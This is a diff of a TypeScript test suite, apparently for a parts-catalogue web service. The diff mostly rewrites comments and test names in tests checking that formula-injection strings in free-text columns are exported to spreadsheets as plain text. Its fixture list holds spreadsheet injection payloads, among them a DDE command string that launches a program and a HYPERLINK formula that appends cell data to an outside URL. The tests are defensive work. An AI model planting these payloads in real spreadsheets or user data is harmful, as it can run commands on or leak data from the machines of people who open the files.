@@ -5,7 +5,7 @@ import { type CatalogueTable, catalogueTables } from "@caliper/catalogue-model";
 import { startTestServer, type TestServer } from "../http/testing/server.ts";
 import { readSheet } from "./testing/read-sheet.ts";
 
-/** What a spreadsheet would run, or what is lost where texts are handled carelessly. */
+/** Texts that spreadsheets could execute, or that careless escaping would change. */
 const hostile = [
   "=cmd|' /C calc'!A0",
   '=HYPERLINK("http://example.com?"&A1,"click")',
@@ -57,7 +57,7 @@ async function file(url: string, payload?: object): Promise<Buffer> {
   return answer.rawPayload;
 }
 
-/** The cells for two readers that share nothing; a cell that would be run fails here. */
+/** The cells, read by two independent readers; a formula or link fails the test. */
 function cellsIn(book: Buffer): Cell[][] {
   const read = xlsx.read(book, { cellFormula: true, cellHTML: false });
   const sheet = read.Sheets[read.SheetNames[0] ?? ""] ?? {};
@@ -75,7 +75,7 @@ function cellsIn(book: Buffer): Cell[][] {
   const width = Math.max(...own.map((row) => row.length));
   const filled = (all: Cell[][]) =>
     all.map((row) => Array.from({ length: width }, (_none, index) => row[index] ?? null));
-  // The library makes one sign of a carriage return and a line feed.
+  // SheetJS converts CR LF to LF.
   const asTheLibrary = (cell: Cell) =>
     typeof cell === "string" ? cell.replaceAll("\r\n", "\n") : cell;
   expect(filled(own).map((row) => row.map(asTheLibrary))).toEqual(filled(rows));
@@ -91,7 +91,7 @@ const upload = async (body: Partial<Body<"excelUpload">>) => {
   return answer as Wire<"ExcelUploadAnswer">;
 };
 
-/** Columns that hold whatever somebody wrote. */
+/** Columns with free text. */
 const isFree = (table: CatalogueTable, name: string) => {
   const column = table.columns.find((one) => one.name === name);
   return (
@@ -106,16 +106,16 @@ const free = catalogueTables.filter((table) =>
   table.columns.some(({ name }) => isFree(table, name)),
 );
 
-describe("texts that a spreadsheet would run", () => {
-  it("are tried in every table that holds free text", () => {
+describe("executable texts", () => {
+  it("are tested in every table with free text", () => {
     expect(free.length).toBeGreaterThan(8);
   });
 
   it.each(free.map((table) => [table.wireName, table] as const))(
-    "in %s leave as texts, and come back without a change",
+    "in %s are exported as text and unchanged when uploaded again",
     async (name, table) => {
       const [header = [], ...before] = cellsIn(await file(`/api/descargar-excel/${name}`));
-      // Each text in a row of its own, in every column that takes one.
+      // One text per row, in every free column.
       const Data = hostile.map((text, index) => {
         const row = before[index % before.length] ?? [];
         return table.columns.map((column, at) =>
@@ -123,7 +123,7 @@ describe("texts that a spreadsheet would run", () => {
         );
       });
       const Header = header.map(String);
-      // Where fewer rows than texts are in the table, the texts come one after the other.
+      // Tables with fewer rows than texts are uploaded several times.
       for (let start = 0; start < Data.length; start += Math.max(1, before.length)) {
         await upload({ table_name: name, Header, Data: Data.slice(start, start + before.length) });
       }
@@ -132,7 +132,7 @@ describe("texts that a spreadsheet would run", () => {
       const texts = new Set(after.flat());
       const kept = hostile.slice(-Math.min(hostile.length, before.length));
       expect(kept.filter((text) => !texts.has(text))).toEqual([]);
-      // A long table comes back as its changed rows; that whole tables do, the imports' own test tells.
+      // Of long tables only the changed rows are uploaded; the imports tests cover whole tables.
       const wanted = new Set<Cell>(hostile);
       const some = after.filter((row) => row.some((cell) => wanted.has(cell)));
       expect(some.length).toBeGreaterThanOrEqual(kept.length);
@@ -161,11 +161,11 @@ describe("texts that a spreadsheet would run", () => {
   );
 });
 
-describe("and in every other file that leaves", () => {
+describe("executable texts in other files", () => {
   const put = (table: string, Header: string[], ...Data: Cell[][]) =>
     upload({ table_name: table, Header, Data });
 
-  it("brands and codes of the interchange report are texts", async () => {
+  it("stay text in the interchange report", async () => {
     await put(
       "intercambios",
       ["Codigo", "Brand", "Interchange"],
@@ -178,20 +178,20 @@ describe("and in every other file that leaves", () => {
     expect(mine.map(([, , , brand]) => String(brand)).toSorted()).toEqual(hostile.toSorted());
   });
 
-  it("wrong cells in the file of problems are texts, and the reason beside them", async () => {
+  it("stay text in the file of invalid rows", async () => {
     const upload_id = crypto.randomUUID();
     const Data = hostile.map((text) => ["BR31338", text]);
     const Header = ["XBP", "OUTER_DIAM"];
     await upload({ table_name: "brake_rotors", Header, Data, upload_id, preview: true });
     const [, ...rows] = cellsIn(await file(`/api/v1/imports/${upload_id}/problems`));
     const cells = new Set(rows.flat());
-    // A figure is a diameter, and no problem.
+    // Numbers are valid diameters.
     const wrong = hostile.filter((text) => !/^[+-]?\d+$/u.test(text));
     expect(wrong.filter((text) => !cells.has(text))).toEqual([]);
     await server.call("discardImport", { as: "admin", path: { id: upload_id } });
   });
 
-  it("customer, customer code, note and descriptions of an order are texts", async () => {
+  it("stay text in an order", async () => {
     const [customer = "", note = ""] = hostile;
     const customerCode = "=1+1";
     const { body: account } = await server.call("createAccount", {
@@ -222,7 +222,7 @@ describe("and in every other file that leaves", () => {
     expect(rows[7]?.[1]).toBe(drums[0]?.Description);
   });
 
-  it("a correction that was applied is a text", async () => {
+  it("stay text in an applied amendment", async () => {
     const suggested = "=HYPERLINK(1)";
     const { report_id } = await server.ok<Wire<"AmendmentReceipt">>("insertAmendments", {
       as: "cliente",
